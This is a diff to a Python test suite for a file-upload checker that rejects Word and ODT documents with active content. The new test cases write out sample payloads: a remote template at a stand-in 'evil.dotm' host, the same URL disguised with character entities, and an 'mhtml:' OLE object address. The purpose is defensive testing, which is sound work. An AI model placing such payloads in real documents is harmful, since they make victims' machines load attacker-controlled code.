@@ -52,6 +52,8 @@ def text_with(entry: str) -> bytes:
     return samples.with_entry(samples.open_document(), entry, b"x")
 
 
+#: Where a document of Word says which template it was made from.
+TEMPLATE_OF = "word/_rels/settings.xml.rels"
 TEMPLATE = (
     b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
@@ -81,7 +83,17 @@ BAD = {
     "a docx with a control": ("a.docx", lambda: word_with("word/activeX/activeX1.bin", b"x"), kinds.PROGRAM),
     "a docx with a template from the web": (
         "a.docx",
-        lambda: word_with(kinds.TEMPLATE_OF, TEMPLATE % b"http://x/evil.dotm"),
+        lambda: word_with(TEMPLATE_OF, TEMPLATE % b"http://x/evil.dotm"),
+        kinds.PROGRAM,
+    ),
+    "a docx that writes the address of its template in other signs": (
+        "a.docx",
+        lambda: word_with(TEMPLATE_OF, TEMPLATE % b"&#104;ttp&#x3a;//x/evil.dotm"),
+        kinds.PROGRAM,
+    ),
+    "a docx with an object from the web": (
+        "a.docx",
+        lambda: samples.word(names=("oleObject", "mhtml:http://x/evil.html!x-usc:http://x/evil.html")),
         kinds.PROGRAM,
     ),
     "an odt with a macro": ("a.odt", lambda: text_with("Basic/Standard/Module1.xml"), kinds.PROGRAM),
@@ -107,9 +119,13 @@ def test_a_bad_file_is_refused_with_its_sentence(case):
 
 
 def test_a_docx_may_name_the_template_of_its_own_office():
-    named = word_with(kinds.TEMPLATE_OF, TEMPLATE % b"file:///C:\\Users\\ana\\Normal.dotm")
+    named = word_with(TEMPLATE_OF, TEMPLATE % b"file:///C:\\Users\\ana\\Normal.dotm")
 
     assert take_in(named, "a.docx").kind == "docx"
+
+
+def test_a_docx_may_link_to_the_web():
+    assert take_in(samples.word(names=("hyperlink", "https://www.example.org")), "a.docx").kind == "docx"
 
 
 def test_an_entity_is_never_looked_up():
